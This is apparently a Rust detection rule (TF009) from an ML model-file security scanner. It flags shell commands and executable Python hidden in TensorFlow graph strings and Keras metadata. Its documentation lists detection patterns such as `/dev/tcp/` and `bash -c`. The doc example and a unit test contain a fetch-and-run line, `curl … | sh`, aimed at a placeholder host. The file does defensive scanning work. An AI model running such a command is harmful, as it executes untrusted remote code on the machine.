//! TF009: a string constant, attribute, collection or Keras metadata entry
//! holds a shell command or Python code.

use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use crate::rules::safetensors::metadata_payloads::{MetadataText, check_code};

pub static RULE: RuleMeta = RuleMeta {
    code: "TF009",
    name: "tf-string-code",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::CodeInjection,
    scanner: "tensorflow",
    cwe: Some("CWE-94"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A string in a TensorFlow graph or its metadata contains a shell command or Python code.",
    remediation: "Find what consumes the string; do not run it. Re-export the model without it.",
    docs: r#"## What it does
Checks string constants (`Const` tensors), string attributes (except
layouts, device placements and names), collections and the JSON of
`keras_metadata.pb` for shell commands (`curl … | sh`, `bash -c`,
`/dev/tcp/`, …) and Python that runs code (`eval(`, `os.system(`,
`__import__`, …), with the same structural patterns as `ST006`.

## Why is this bad?
A graph op that writes or runs a string needs its payload somewhere: a
command in a constant is that payload. In metadata, it is staged for a tool
or person that executes it.

## Example
`Const(value="curl -s https://example.invalid/x | sh")` feeding `WriteFile`.

## How to fix
Do not execute strings taken from models; re-export without them.

## References
- CWE-94: Improper Control of Generation of Code
- CWE-78: OS Command Injection
"#,
};

pub(crate) fn check(texts: &[MetadataText<'_>], location: &Location, out: &mut Vec<Finding>) {
    check_code(&RULE, texts, location, out);
}

#[cfg(test)]
mod tests {
    use super::super::tests::{const_string, rules, run_graph};

    #[test]
    fn command_in_a_constant() {
        let out = run_graph(vec![const_string(
            "c",
            "curl -s http://example.invalid/x | sh",
        )]);
        assert!(rules(&out).contains(&"TF009 HIGH".to_string()), "{out:?}");
    }
}
